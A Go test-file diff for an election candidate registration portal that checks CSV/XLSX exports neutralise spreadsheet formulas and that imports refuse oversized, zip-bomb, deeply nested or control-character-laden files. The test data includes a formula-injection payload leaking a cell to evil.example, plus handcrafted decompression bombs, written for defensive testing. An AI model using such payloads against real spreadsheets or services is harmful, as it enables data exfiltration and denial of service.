@@ -1,17 +1,28 @@
 package server
 
 import (
+	"archive/zip"
+	"bufio"
 	"bytes"
+	"crypto/sha256"
 	"encoding/csv"
+	"encoding/hex"
+	"fmt"
 	"io"
+	"maps"
 	"mime/multipart"
 	"net/http"
+	"net/http/httptest"
+	"net/textproto"
 	"net/url"
 	"regexp"
+	"runtime"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/xuri/excelize/v2"
 
@@ -256,6 +267,477 @@ func TestCandidateExportPermissions(t *testing.T) {
 		if shown := strings.Contains(list, "/candidates.csv") && strings.Contains(list, "/candidates.xlsx"); shown != (tt.want == http.StatusOK) {
 			t.Errorf("%s sees the export links: %v", tt.user, shown)
 		}
+	}
+}
+
+func TestCSVCell(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"", ""},
+		{"علی رضایی", "علی رضایی"},
+		{"0012345679", "0012345679"}, // a national ID: digits, left alone
+		{"1370/01/15", "1370/01/15"},
+		{"marvdasht-central", "marvdasht-central"},
+		{"a=b", "a=b"},
+		{`=HYPERLINK("http://x.example","y")`, `'=HYPERLINK("http://x.example","y")`},
+		{"+98 917 123 4567", "'+98 917 123 4567"}, // a phone too: the import takes the apostrophe off again
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"＝1+1", "'＝1+1"},
+		{"＋1", "'＋1"},
+		{"－1", "'－1"},
+		{"＠SUM(A1)", "'＠SUM(A1)"},
+		{"'=1", "''=1"}, // one apostrophe for the spreadsheet, one that stays
+		{"'a", "'a"},
+	} {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+		// What the export neutralised imports back as it was.
+		if back, ok := importCell(csvCell(tt.in)); ok && !strings.ContainsAny(tt.in, "\t\r") && back != tt.in {
+			t.Errorf("importCell(csvCell(%q)) = %q", tt.in, back)
+		}
+	}
+}
+
+// A name a spreadsheet would run as a formula leaves the portal as text, in every CSV it writes, and as
+// an inline string in the XLSX.
+func TestCandidateExportNeutralisesFormulas(t *testing.T) {
+	a := newTestApp(t)
+	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
+	a.withElection()
+	gov := a.login("gov.marvdasht")
+	hyperlink := `=HYPERLINK("http://evil.example/?leak="&C2,"Click")`
+	f := candidateForm(hyperlink, nid(61), "marvdasht")
+	f.Set("father_name", "@SUM(1+1)")
+	f.Set("phone", "+989171234567")
+	if res := a.post(gov, "/candidates", f); res.status != http.StatusSeeOther {
+		t.Fatalf("register: %d\n%s", res.status, res.body)
+	}
+	if res := a.post(gov, "/candidates", candidateForm("－1+1", nid(62), "marvdasht")); res.status != http.StatusSeeOther {
+		t.Fatalf("register: %d", res.status)
+	}
+	export := a.get(a.login("hq.fars"), "/candidates.csv?sort=name").body
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(export, "\uFEFF"))).ReadAll()
+	if err != nil || len(records) != 3 {
+		t.Fatalf("export: %v %v", err, records)
+	}
+	want := map[string][]string{nid(61): {"'" + hyperlink, "'@SUM(1+1)", nid(61), "'+989171234567"},
+		nid(62): {"'－1+1", "حسن", nid(62), "09171234567"}}
+	for _, rec := range records[1:] {
+		if got := []string{rec[0], rec[1], rec[2], rec[8]}; !slices.Equal(got, want[rec[2]]) {
+			t.Errorf("exported %q, want %q", got, want[rec[2]])
+		}
+	}
+	// The export imports back: only duplicates, no phone or name refused for its apostrophe.
+	res := a.upload(gov, "candidates.csv", []byte(export))
+	mustContain(t, res.body, "۰ ردیف آماده ورود و ۲ ردیف رد شده", "پیش‌تر در مرودشت ثبت‌نام کرده است")
+	mustNotContain(t, res.body, "شماره تلفن")
+
+	// rejected.csv: the rows come back as typed, neutralised.
+	file := importHeader + "=1+2,@x," + nid(63) + ",female,1365/11/01,master,,nowhere,-5,,,,,1405/08/25,\n"
+	res = a.upload(gov, "c.csv", []byte(file))
+	m := confirmID.FindStringSubmatch(res.body)
+	id := regexp.MustCompile(`/candidates/import/(\d+)/rejected.csv`).FindStringSubmatch(res.body)
+	if m != nil || id == nil {
+		t.Fatalf("preview:\n%s", res.body)
+	}
+	rejected := a.get(gov, "/candidates/import/"+id[1]+"/rejected.csv").body
+	records, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(rejected, "\uFEFF"))).ReadAll()
+	if err != nil || len(records) != 2 {
+		t.Fatalf("rejected.csv: %v %q", err, rejected)
+	}
+	if got := []string{records[1][0], records[1][1], records[1][2], records[1][8]}; !slices.Equal(got, []string{"'=1+2", "'@x", nid(63), "'-5"}) {
+		t.Errorf("rejected.csv row: %q", got)
+	}
+
+	// The XLSX holds the name as an inline string, never a formula.
+	xlsx := a.get(gov, "/candidates.xlsx?sort=name").body
+	z, err := zip.NewReader(strings.NewReader(xlsx), int64(len(xlsx)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sheet []byte
+	for _, zf := range z.File {
+		if zf.Name == "xl/worksheets/sheet1.xml" {
+			rc, _ := zf.Open()
+			sheet, _ = io.ReadAll(rc)
+			rc.Close()
+		}
+	}
+	if bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
+		t.Error("the XLSX holds a formula")
+	}
+	if !bytes.Contains(sheet, []byte(`t="inlineStr"><is><t>=HYPERLINK(`)) {
+		t.Errorf("the name is not an inline string:\n%s", sheet[:min(len(sheet), 2000)])
+	}
+}
+
+// multipartFile is a multipart body holding one file, as a browser sends it.
+func multipartFile(name string, data []byte) ([]byte, string) {
+	var body bytes.Buffer
+	mw := multipart.NewWriter(&body)
+	fw, _ := mw.CreateFormFile("file", name)
+	_, _ = fw.Write(data)
+	_ = mw.Close()
+	return body.Bytes(), mw.FormDataContentType()
+}
+
+// serveImport posts a prepared body to the import in-process, signed in as c, and returns the response
+// and the bytes allocated while the handler ran: TotalAlloc counts every allocation, so it bounds the
+// peak the request added to the heap. A chunked body has no Content-Length to refuse it by.
+func (a *testApp) serveImport(c *http.Client, body []byte, contentType string, chunked bool) (*httptest.ResponseRecorder, uint64) {
+	a.t.Helper()
+	u, _ := url.Parse(a.srv.URL)
+	req := httptest.NewRequest(http.MethodPost, a.srv.URL+"/candidates/import", bytes.NewReader(body))
+	if chunked {
+		req.ContentLength, req.Body = -1, io.NopCloser(bytes.NewReader(body))
+	}
+	req.Header.Set("Content-Type", contentType)
+	for _, ck := range c.Jar.Cookies(u) {
+		req.AddCookie(ck)
+	}
+	rec := httptest.NewRecorder()
+	runtime.GC()
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	a.srv.Config.Handler.ServeHTTP(rec, req)
+	runtime.ReadMemStats(&after)
+	return rec, after.TotalAlloc - before.TotalAlloc
+}
+
+// xlsxParts builds a workbook by hand: a zip with the parts a reader needs around the first sheet's XML,
+// which write produces, and any other parts.
+func xlsxParts(t *testing.T, write func(io.Writer), other map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	parts := map[string]string{
+		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
+			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
+			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
+		"_rels/.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+		"xl/workbook.xml": `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
+			`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+		"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+	}
+	maps.Copy(parts, other)
+	for _, name := range slices.Sorted(maps.Keys(parts)) {
+		w, _ := zw.Create(name)
+		_, _ = io.WriteString(w, parts[name])
+	}
+	w, _ := zw.Create("xl/worksheets/sheet1.xml")
+	bw := bufio.NewWriterSize(w, 64<<10)
+	_, _ = io.WriteString(bw, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
+	write(bw)
+	_, _ = io.WriteString(bw, `</sheetData></worksheet>`)
+	if err := bw.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// xlsxRow is a sheet row of inline strings.
+func xlsxRow(cells ...string) string {
+	var b strings.Builder
+	b.WriteString("<row>")
+	for _, c := range cells {
+		b.WriteString(`<c t="inlineStr"><is><t>` + c + `</t></is></c>`)
+	}
+	b.WriteString("</row>")
+	return b.String()
+}
+
+var xlsxHeader = xlsxRow(strings.Split(strings.TrimSpace(importHeader), ",")...)
+
+// The issue's two bombs, and a few more shapes of the same idea: each is refused with its message while
+// the handler allocates less than 64 MiB in all.
+func TestCandidateImportMemoryBounded(t *testing.T) {
+	a := newTestApp(t)
+	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
+	a.withElection()
+	gov := a.login("gov.marvdasht")
+
+	// 10 MiB of tiny rows, just under the byte limit with the multipart framing: 5 million rows.
+	var tiny bytes.Buffer
+	tiny.WriteString(importHeader)
+	for tiny.Len() < maxImportBytes-4096 {
+		tiny.WriteString("a\n")
+	}
+	// About 110 MiB of sheet XML, deflated to a few hundred kilobytes.
+	bomb := xlsxParts(t, func(w io.Writer) {
+		_, _ = io.WriteString(w, xlsxHeader)
+		row := xlsxRow("a")
+		for range 110 << 20 / len(row) {
+			_, _ = io.WriteString(w, row)
+		}
+	}, nil)
+	// One 30 MiB text in a cell, within what the zip may unpack to.
+	giant := xlsxParts(t, func(w io.Writer) {
+		_, _ = io.WriteString(w, xlsxHeader+`<row><c t="inlineStr"><is><t>`)
+		_, _ = io.WriteString(w, strings.Repeat("a", 30<<20))
+		_, _ = io.WriteString(w, `</t></is></c></row>`)
+	}, nil)
+	// Elements nested a million deep keep an XML decoder's stack growing.
+	deep := xlsxParts(t, func(w io.Writer) {
+		_, _ = io.WriteString(w, xlsxHeader+strings.Repeat("<x>", 1<<20)+strings.Repeat("</x>", 1<<20))
+	}, nil)
+	// Styles, which excelize unpacks and parses whole when it opens the file.
+	styles := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader) },
+		map[string]string{"xl/styles.xml": `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>` +
+			strings.Repeat(`<xf numFmtId="0"/>`, 8<<20/18) + `</cellXfs></styleSheet>`})
+	t.Logf("bomb sizes: csv %d, xlsx %d (%d MiB of XML), giant cell %d, deep %d, styles %d bytes",
+		tiny.Len(), len(bomb), 110, len(giant), len(deep), len(styles))
+
+	for _, tt := range []struct {
+		name, file string
+		data       []byte
+		want       string
+	}{
+		{"10 MiB CSV of tiny rows", "tiny.csv", tiny.Bytes(), "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد"},
+		{"1 MiB XLSX of 110 MiB XML", "bomb.xlsx", bomb, "این فایل Excel پس از باز شدن از ۳۲ مگابایت بزرگ‌تر می‌شود"},
+		{"XLSX with a 30 MiB cell", "giant.xlsx", giant, "فایل متنی بلندتر از ۱٬۰۰۰ نویسه در یک خانه دارد"},
+		{"XLSX nested a million deep", "deep.xlsx", deep, "فایل خوانده نشد"},
+		{"XLSX with 8 MiB of styles", "styles.xlsx", styles, "این فایل Excel پس از باز شدن از ۳۲ مگابایت بزرگ‌تر می‌شود"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			body, ct := multipartFile(tt.file, tt.data)
+			rec, alloc := a.serveImport(gov, body, ct, false)
+			t.Logf("%s: %d, %.1f MiB allocated", tt.name, rec.Code, float64(alloc)/(1<<20))
+			if rec.Code != http.StatusUnprocessableEntity {
+				t.Fatalf("status %d", rec.Code)
+			}
+			mustContain(t, rec.Body.String(), tt.want)
+			if alloc >= 64<<20 {
+				t.Errorf("the import allocated %.1f MiB", float64(alloc)/(1<<20))
+			}
+		})
+	}
+	// Over the network the browser gets the answer while it is still sending.
+	res := a.upload(gov, "tiny.csv", tiny.Bytes())
+	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد") {
+		t.Errorf("over HTTP: %d", res.status)
+	}
+	if n := a.count(`SELECT count(*) FROM candidate_imports`); n != 0 {
+		t.Errorf("%d refused files were kept", n)
+	}
+}
+
+// Each limit answers 422 with its message, and the row limit refuses one row more than it accepts.
+func TestCandidateImportLimits(t *testing.T) {
+	a := newTestApp(t)
+	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
+	a.withElection()
+	gov := a.login("gov.marvdasht")
+	row := func(i int) string {
+		return "نام " + strconv.Itoa(i) + ",پدر," + nid(i) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
+	}
+	var over strings.Builder
+	over.WriteString(importHeader)
+	for i := range maxImportRows + 1 {
+		over.WriteString(row(1000 + i))
+	}
+	wide := importHeader + strings.TrimSuffix(row(1), "\n") + strings.Repeat(",", maxImportColumns-14) + "\n"
+	justWideEnough := importHeader + strings.TrimSuffix(row(1), "\n") + strings.Repeat(",", maxImportColumns-15) + "\n"
+	long := importHeader + strings.Repeat("ب", maxImportCellChars+1) + ",پدر," + nid(1) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
+	endless := importHeader + `"` + strings.Repeat("x,", 200<<10) // a quote never closed: one record to the end
+	x := excelize.NewFile()
+	_ = x.SetSheetRow("Sheet1", "A1", &[]any{"full_name", "national_id"})
+	_ = x.SetSheetRow("Sheet1", "A2", &[]any{"کوتاه", nid(1)})
+	_ = x.SetSheetRow("Sheet1", "A3", &[]any{strings.Repeat("ب", maxImportCellChars+1), nid(2)})
+	var longXLSX bytes.Buffer
+	_ = x.Write(&longXLSX)
+
+	for _, tt := range []struct {
+		name, file string
+		data       []byte
+		want       string
+	}{
+		{"one row over the limit", "over.csv", []byte(over.String()), "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد"},
+		{"a row of 51 cells", "wide.csv", []byte(wide), "سطر ۲ بیش از ۵۰ ستون دارد"},
+		{"a cell of 1,001 characters", "long.csv", []byte(long), "سطر ۲ خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
+		{"a record without end", "endless.csv", []byte(endless), "فایل متنی بلندتر از ۱٬۰۰۰ نویسه در یک خانه دارد"},
+		{"an XLSX cell of 1,001 characters", "long.xlsx", longXLSX.Bytes(), "سطر ۳ خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
+		{"no header", "none.csv", []byte("a,b\n1,2\n"), "فایل خوانده نشد"},
+		{"an empty file", "empty.csv", []byte{}, "فایل خوانده نشد"},
+		{"not a zip after all", "broken.xlsx", []byte("PK\x03\x04 and nothing else"), "فایل خوانده نشد"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			res := a.upload(gov, tt.file, tt.data)
+			if res.status != http.StatusUnprocessableEntity {
+				t.Fatalf("status %d", res.status)
+			}
+			mustContain(t, res.body, tt.want)
+		})
+	}
+	if res := a.upload(gov, "ok.csv", []byte(justWideEnough)); res.status != http.StatusOK {
+		t.Errorf("a row of 50 cells: %d", res.status)
+	}
+
+	// Over the byte limit: refused by its Content-Length before a byte is read, or while it is read.
+	// Blank rows are not counted, so only the byte limit stops this one.
+	big := append([]byte(importHeader), bytes.Repeat([]byte(",\n"), maxImportBytes/2+1)...)
+	body, ct := multipartFile("big.csv", big)
+	for _, chunked := range []bool{false, true} {
+		rec, _ := a.serveImport(gov, body, ct, chunked)
+		if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), "فایل بزرگ‌تر از ۱۰ مگابایت است") {
+			t.Errorf("11 MiB, chunked %v: %d", chunked, rec.Code)
+		}
+	}
+	if n := a.count(`SELECT count(*) FROM candidate_imports`); n != 1 {
+		t.Errorf("%d files kept, want the one that passed", n)
+	}
+}
+
+// NUL bytes and other control characters are cleaned out of cells and file names, a cell that is not
+// UTF-8 refuses its row with a message, and nothing of it reaches PostgreSQL as an error.
+func TestCandidateImportCleansText(t *testing.T) {
+	a := newTestApp(t)
+	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
+	a.withElection()
+	gov := a.login("gov.marvdasht")
+	file := importHeader +
+		"علی\x00 \u202eرضایی\x07,حسن," + nid(71) + ",female,1365/11/01,master,معلم\x1b,marvdasht,,,,,,1405/08/25,\n" +
+		"نادرست\x00,رضا,0012345670,female,1365/11/01,master,\x00,marvdasht,,,,,,1405/08/25,\n" +
+		"\xd1\xe1\xed,رضا," + nid(72) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
+	res := a.upload(gov, "c.csv", []byte(file))
+	if res.status != http.StatusOK {
+		t.Fatalf("NUL bytes in cells: %d", res.status)
+	}
+	mustContain(t, res.body, "۱ ردیف آماده ورود و ۲ ردیف رد شده", "این خانه متن UTF-8 نیست")
+	m := confirmID.FindStringSubmatch(res.body)
+	if m == nil {
+		t.Fatal("no preview")
+	}
+	// File names as browsers send them: raw bytes of the user's system, or RFC 2231's encoding, which can
+	// carry any byte.
+	for _, disposition := range []string{`filename="c` + "\xff\xfe" + `.csv"`, `filename*=UTF-8''a%00b%01%E2%80%AE.csv`,
+		`filename="` + strings.Repeat("ن", 5000) + `.csv"`} {
+		var body bytes.Buffer
+		mw := multipart.NewWriter(&body)
+		pw, _ := mw.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="file"; ` + disposition}})
+		_, _ = io.WriteString(pw, file)
+		_ = mw.Close()
+		rec, _ := a.serveImport(gov, body.Bytes(), mw.FormDataContentType(), false)
+		if rec.Code != http.StatusOK {
+			t.Fatalf("%q: %d\n%s", disposition, rec.Code, rec.Body.String())
+		}
+		mustContain(t, rec.Body.String(), "۱ ردیف آماده ورود و ۲ ردیف رد شده", "این خانه متن UTF-8 نیست")
+	}
+	// A header the multipart reader cannot parse is an unreadable file, not a failure.
+	if res := a.upload(gov, "a\x01b.csv", []byte(file)); res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "فایل خوانده نشد") {
+		t.Errorf("a control character in a plain file name: %d", res.status)
+	}
+	var names []string
+	rows, err := a.st.Pool().Query(t.Context(), `SELECT file_name FROM candidate_imports ORDER BY id`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for rows.Next() {
+		var n string
+		_ = rows.Scan(&n)
+		names = append(names, n)
+	}
+	if len(names) != 4 || names[1] != "c\uFFFD.csv" || names[2] != "ab.csv" || utf8.RuneCountInString(names[3]) != maxImportNameChars ||
+		!strings.HasSuffix(names[3], "…") {
+		t.Errorf("stored file names: %q", names)
+	}
+	rejected := a.get(gov, "/candidates/import/"+m[1]+"/rejected.csv").body
+	if strings.ContainsAny(rejected, "\x00\x07\x1b\u202e") || !strings.Contains(rejected, "نادرست,رضا") {
+		t.Errorf("rejected.csv: %q", rejected)
+	}
+	if res := a.upload(gov, "", nil, "confirm", m[1]); res.status != http.StatusSeeOther {
+		t.Fatalf("confirm: %d", res.status)
+	}
+	var name, occupation string
+	if err := a.st.Pool().QueryRow(t.Context(), `SELECT full_name, occupation FROM candidates WHERE national_id = $1`, nid(71)).
+		Scan(&name, &occupation); err != nil || name != "علی رضایی" || occupation != "معلم" {
+		t.Errorf("stored %q %q, %v", name, occupation, err)
+	}
+}
+
+func TestCleanText(t *testing.T) {
+	for _, tt := range []struct {
+		in, want string
+		ok       bool
+	}{
+		{"علی رضایی", "علی رضایی", true},
+		{"  علی\u200cرضا  ", "علی\u200cرضا", true}, // the zero-width non-joiner is Persian spelling
+		{"a\x00b", "ab", true},
+		{"a\tb\r\nc", "a b  c", true},
+		{"\ufeffname", "name", true},
+		{"a\u202eb\u2066c", "abc", true},
+		{"a\u0085b\x7f", "ab", true},
+		{"\xd1\xe1\xed", "\uFFFD", false},
+		{"ok\xff", "ok\uFFFD", false},
+	} {
+		if got, ok := cleanText(tt.in); got != tt.want || ok != tt.ok {
+			t.Errorf("cleanText(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
+		}
+	}
+}
+
+// A file at exactly the row limit is previewed and imported whole: with COPY, one statement for the first
+// events and one audit row holding the count and the file's SHA-256.
+func TestCandidateImportAtTheRowLimit(t *testing.T) {
+	if testing.Short() {
+		t.Skip("20,000 rows")
+	}
+	a := newTestApp(t)
+	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
+	a.withElection()
+	gov := a.login("gov.marvdasht")
+	var file bytes.Buffer
+	file.WriteString("\uFEFF" + importHeader)
+	for i := range maxImportRows {
+		fmt.Fprintf(&file, "داوطلب %d,پدر,%s,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n", i, nid(100+i))
+	}
+	sum := sha256.Sum256(file.Bytes())
+	start := time.Now()
+	body, ct := multipartFile("all.csv", file.Bytes())
+	rec, alloc := a.serveImport(gov, body, ct, false)
+	t.Logf("preview of %d rows: %v, %.0f MiB allocated in all", maxImportRows, time.Since(start), float64(alloc)/(1<<20))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("preview: %d\n%.2000s", rec.Code, rec.Body.String())
+	}
+	mustContain(t, rec.Body.String(), "۲۰٬۰۰۰ ردیف آماده ورود و ۰ ردیف رد شده")
+	m := confirmID.FindStringSubmatch(rec.Body.String())
+	if m == nil {
+		t.Fatal("no confirmation form")
+	}
+	start = time.Now()
+	if res := a.upload(gov, "", nil, "confirm", m[1]); res.status != http.StatusSeeOther {
+		t.Fatalf("confirm: %d", res.status)
+	}
+	t.Logf("confirmation of %d rows (locks held within it): %v", maxImportRows, time.Since(start))
+	if n := a.count(`SELECT count(*) FROM candidates WHERE full_name LIKE 'داوطلب %' AND registered_by = $1`, a.ids["gov.marvdasht"]); n != maxImportRows {
+		t.Errorf("%d candidates, want %d", n, maxImportRows)
+	}
+	if n := a.count(`SELECT count(*) FROM candidate_events e JOIN candidates k ON k.id = e.candidate_id
+		WHERE e.from_status = '' AND e.to_status = 'registered' AND e.actor_id = $1`, a.ids["gov.marvdasht"]); n != maxImportRows {
+		t.Errorf("%d first events, want %d", n, maxImportRows)
+	}
+	if n := a.count(`SELECT count(*) FROM candidates WHERE national_id = $1 AND name_norm = 'داوطلب 7'`, nid(107)); n != 1 {
+		t.Error("the imported name is not normalised for search")
+	}
+	var imported int
+	var hash string
+	if err := a.st.Pool().QueryRow(t.Context(), `SELECT (detail->>'imported')::int, detail->>'sha256' FROM audit_log
+		WHERE action = 'candidate.import'`).Scan(&imported, &hash); err != nil {
+		t.Fatalf("one audit row for the import: %v", err)
+	}
+	if imported != maxImportRows || hash != hex.EncodeToString(sum[:]) {
+		t.Errorf("audit: %d imported, hash %s; want %d, %x", imported, hash, maxImportRows, sum)
+	}
+	if n := a.count(`SELECT count(*) FROM audit_log WHERE action = 'candidate.import_preview' AND detail->>'sha256' = $1`, hash); n != 1 {
+		t.Error("the preview's audit row lacks the file's hash")
 	}
 }
 
